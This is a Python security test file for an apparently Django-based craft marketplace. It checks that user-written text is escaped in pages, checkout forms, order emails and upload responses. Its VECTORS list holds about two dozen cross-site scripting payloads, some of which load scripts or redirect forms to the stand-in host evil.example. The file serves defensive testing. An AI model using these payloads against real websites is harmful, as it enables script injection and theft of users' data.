"""What a shop, a maker or a buyer writes is shown as they wrote it and never runs (16): in pages and in letters."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from catalog.models import Product
from marketplace.notifications import actions as notices
from marketplace.notifications import letters
from marketplace.notifications.models import Delivery
from marketplace.order import actions as orders
from marketplace.order.models import Order
from shops.models import Artisan, Body, Place
from shops.partner.models import Partner
from tests.factories import (
    NOW,
    make_artisan,
    make_card,
    make_centre,
    make_photo,
    make_product,
    make_shop,
    make_user,
)
from tests.orders import ABROAD, make_paid_order
from tests.people import sign_in
from tests.security.test_headers import assert_strict, inline

pytestmark = [pytest.mark.django_db, pytest.mark.timeout(120)]

MARK = (
    "xq7zvk93"  # stands in every vector and by chance in no token, so that a page that shows none is noticed
)
VECTORS = [
    f"<script>{MARK}()</script>",
    f"<ScRiPt src=//evil.example/{MARK}.js></sCrIpT>",
    f'"><img src=x onerror={MARK}()>',
    f"'><svg onload={MARK}()>",
    f"<svg><script>{MARK}()</script></svg>",
    f"</title><script>{MARK}()</script>",
    f"</textarea><script>{MARK}()</script>",
    f"</script><script>{MARK}()</script>",
    f"--><script>{MARK}()</script>",
    f"]]><script>{MARK}()</script>",
    f'" onmouseover="{MARK}()" x="',
    f"' autofocus onfocus='{MARK}()",
    f"javascript:{MARK}()",
    f"<a href=javascript:{MARK}()>x</a>",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<style>@import'//evil.example/{MARK}'</style>",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<form action=//evil.example/{MARK}><button>x",
    f"{{{{ {MARK}.constructor('x')() }}}}{{% include '{MARK}' %}}",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&#60;script&#62;{MARK}()&#60;/script&#62;",
    f"＜script＞{MARK}()＜/script＞",
    f"<img src=`x`onerror={MARK}()>",
    f"\u202e<script>{MARK}()</script>\u2066",
    f"<math><mtext><table><mglyph><style><img title='</style><img src onerror={MARK}()>'>",
]

# Four at a time; short columns hold the first of them.
TOGETHER = [" ".join(VECTORS[start : start + 4]) for start in range(0, len(VECTORS), 4)]


class Elements(HTMLParser):
    """Collect every element that a browser would make of a vector: one with its mark in a name or a live attribute."""

    LIVE = ("src", "href", "action", "formaction", "srcdoc", "data", "style", "http-equiv")

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        for name, value in attrs:
            runs = name.startswith("on") or (
                name in self.LIVE and MARK in (value or "") and not _is_ours(value or "")
            )
            if runs or MARK in name:
                self.found.append(f"<{tag} {name}={value}>")

    def handle_data(self, data: str) -> None:
        if MARK in data and self._inside in ("script", "style"):
            self.found.append(f"<{self._inside}>{data[:60]}")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""


def _is_ours(value: str) -> bool:
    """Tell whether an address leads to a page of ours, with a vector escaped in it."""
    return value.startswith("/") and not value.startswith("//")


def live(page: str) -> list[str]:
    """Return what a browser would run, load or follow of the vectors in a page."""
    without_data = re.sub(r'<script type="application/ld\+json">[^<]*</script>', "", page)
    parser = Elements()
    parser.feed(without_data)
    return parser.found


def _in_three(stem: str, text: str) -> dict[str, str]:
    return {f"{stem}_{code}": text for code in ("ar", "fr", "en")}


def write_everywhere(text: str) -> tuple[Product, Order]:
    """Write `text` wherever people may write something, and return the piece and a paid order of it."""
    owner = make_user(full_name=text[:150])
    centre = make_centre()
    shop = make_shop(owner=owner, centre=centre)
    maker = make_artisan(shop, user=owner)
    product = make_product(shop=shop, maker=maker, stock=2, title="x")
    photo = make_photo(product)
    type(photo).objects.filter(pk=photo.pk).update(caption=text[:200])
    Partner.objects.filter(pk=shop.pk).update(**_written(shop, text))
    Artisan.objects.filter(pk=maker.pk).update(**_written(maker, text))
    Body.objects.filter(pk=centre.pk).update(**_written(centre, text))
    Place.objects.filter(pk=shop.place_id).update(**_in_three("name", text[:60]))
    Product.objects.filter(pk=product.pk).update(
        **_in_three("title", text[:255]), **_in_three("description", text)
    )
    make_card(Product.objects.get(pk=product.pk))
    order = make_paid_order(Product.objects.get(pk=product.pk), buyer=ABROAD)
    Order.objects.filter(pk=order.pk).update(
        contact_name=text[:150], street=text[:200], city=text[:100], region=text[:80], postcode=text[:20]
    )
    return product, Order.objects.get(pk=order.pk)


def _written(row: Any, text: str) -> dict[str, str]:
    """Return every translated text of a row, and its address and words, filled with `text` as far as they hold it."""
    skip = ("slug", "email", "notify_email", "phone", "language", "state", "kind", "code", "name_consent")
    columns = {}
    for field in row._meta.concrete_fields:
        plain = (
            field.get_internal_type() in ("CharField", "TextField") and not field.choices and not field.unique
        )
        if plain and field.name not in skip and not field.name.startswith("portrait"):
            columns[field.name] = text[: field.max_length or 2000]
    return columns


def pages_of(product: Product, order: Order) -> list[str]:
    shop = Partner.objects.get(pk=product.shop_id)
    assert shop.centre is not None
    part = order.shop_orders.get()
    return [
        "/en/",
        "/en/catalog/",
        f"/en/catalog/?q={MARK}",
        product.get_absolute_url(),
        "/en/shops/",
        f"/en/shops/{shop.slug}/",
        "/en/centres/",
        f"/en/centres/{shop.centre.slug}/",
        order.get_absolute_url(),
        "/en/workspace/",
        "/en/workspace/orders/",
        f"/en/workspace/orders/{part.number}/",
        "/en/workspace/pieces/",
        f"/en/workspace/pieces/{product.pk}/",
        "/en/account/",
        "/sitemap.xml",
        "/sitemap-pieces.xml",
    ]


@pytest.mark.parametrize("vector", TOGETHER, ids=range(len(TOGETHER)))
def test_nothing_that_people_write_runs_in_a_page(vector: str, settings: Any) -> None:
    """16: title, description, shop, maker, centre, place, name and address, on every page that shows them."""
    settings.LANGUAGE_CODE = "en"
    product, order = write_everywhere(vector)
    client = sign_in(Client(), product.maker.user)
    shown = 0

    for path in pages_of(product, order):
        answer = client.get(path)
        page = answer.content.decode()
        assert answer.status_code == 200, path
        assert_strict(answer, path)
        assert live(page) == [], path
        assert inline(page) == [], path
        for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.DOTALL):
            json.loads(block)  # still data, and ended by our own tag
        shown += MARK in page

    assert shown >= 8


def test_words_of_a_basket_and_a_checkout_do_not_run() -> None:
    """16: what a buyer types comes back to them on the form, as typed."""
    for vector in TOGETHER:
        client = Client()
        client.post(
            "/en/basket/add/",
            {"product": make_product(title=vector).pk},
            headers={"Sec-Fetch-Site": "same-origin"},
        )
        fields = dict.fromkeys(("name", "phone", "email", "street", "commune", "city", "region"), vector)
        answers = [
            client.post("/en/checkout/", fields | {"country": "FR"}),
            client.post("/en/checkout/", fields | {"country": "DZ", "wilaya": "timimoun"}),
            client.get("/en/basket/", {"to": vector, "wilaya": vector}),
            client.get("/en/catalog/", {"q": vector, "place": vector, "min": vector}),
            client.get("/V/", {"n": vector}),
            client.get("/en/account/login/", {"next": vector}),
            client.post("/en/account/login/", {"login": vector, "password": vector, "next": vector}),
        ]
        for answer in answers:
            if answer.status_code in (200, 422):
                assert live(answer.content.decode()) == [], vector


@pytest.mark.parametrize("vector", TOGETHER, ids=range(len(TOGETHER)))
def test_nothing_that_people_write_runs_in_a_letter(vector: str) -> None:
    """16, 33: every letter of an order, refused with a reason; headers stay one line."""
    product, order = write_everywhere(vector)
    part = order.shop_orders.get()
    orders.refuse(shop_order=part, by=product.maker.user, reason=vector[:300], now=NOW)
    notices.tell_of_order(kind="order.paid", order_id=order.pk, now=NOW)
    notices.tell_of_part(kind="shop_order.refused", shop_order_id=part.pk, now=NOW)

    written = [letters.write(delivery) for delivery in Delivery.objects.all()]

    assert len(written) >= 3
    assert any(MARK in letter.html for letter in written)
    for letter in written:
        assert live(letter.html) == [], letter.subject
        assert "<script" not in letter.html.lower()
        assert len(letter.subject.splitlines()) == 1


def test_file_name_is_never_shown_nor_kept() -> None:
    """16, 20: whatever a photo was called."""
    owner = make_user()
    product = make_product(shop=make_shop(owner=owner))
    client = sign_in(Client(), owner)

    for vector in VECTORS:
        name = f"{vector}.jpg".replace("/", "_")
        answer = client.post(
            f"/en/workspace/pieces/{product.pk}/photos/",
            {"photo": SimpleUploadedFile(name, b"no picture", "image/jpeg"), "view": "whole"},
        )
        assert answer.status_code == 422
        assert live(answer.content.decode()) == []
        assert MARK not in answer.content.decode()


def test_vectors_would_be_found() -> None:
    """The judge of these tests finds what an escaping forgotten somewhere would let through."""
    alive = [
        vector
        for vector in VECTORS
        if live(f'<p title="{vector}">{vector}</p>') or inline(f"<p>{vector}</p>")
    ]

    assert len(alive) >= 15
